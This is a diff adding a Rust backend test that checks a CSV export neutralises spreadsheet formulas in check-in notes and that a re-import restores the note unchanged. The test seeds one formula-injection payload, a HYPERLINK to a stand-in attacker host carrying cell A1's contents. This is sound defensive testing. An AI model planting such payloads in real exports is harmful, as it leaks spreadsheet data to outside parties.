@@ -1280,6 +1280,18 @@ migration::backend_test!(
         let Some(world) = World::start(backend).await else {
             return;
         };
+        // A note a spreadsheet would run as a formula.
+        let formula = "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Details\")";
+        let first = check_in::Entity::find()
+            .order_by_asc(check_in::Column::CreatedAt)
+            .one(world.db())
+            .await
+            .expect("query")
+            .expect("a seeded check-in");
+        let mut noted = first.into_active_model();
+        noted.note = Set(Some(formula.to_owned()));
+        noted.update(world.db()).await.expect("a formula note");
+
         let okrs = exported(&world.server, &world.emily, "okrs").await;
         let check_ins = exported(&world.server, &world.emily, "check-ins").await;
         let okr_text = String::from_utf8(okrs.clone()).expect("UTF-8");
@@ -1307,6 +1319,11 @@ migration::backend_test!(
                 "{Q1},{DIRECT},{DIRECT_REVENUE},{CONVERSION},2025-01-06,2.84,"
             )),
             "{check_in_text}"
+        );
+
+        assert!(
+            check_in_text.contains("\"'=HYPERLINK(") && !check_in_text.contains(",\"=HYPERLINK("),
+            "the formula goes out as text: {check_in_text}"
         );
 
         // The same people and teams, no quarter and no OKRs.
@@ -1369,6 +1386,13 @@ migration::backend_test!(
             (created.label.as_str(), created.start_at, created.end_at),
             (Q1, common::date(2025, 1, 1), common::date(2025, 3, 31))
         );
+
+        let imported_note = check_in::Entity::find()
+            .filter(check_in::Column::Note.eq(formula))
+            .count(&fresh.db)
+            .await
+            .expect("count");
+        assert_eq!(imported_note, 1, "the import gives back the note as it was");
 
         let okrs_again = exported(&second, &admin, "okrs").await;
         let check_ins_again = exported(&second, &admin, "check-ins").await;
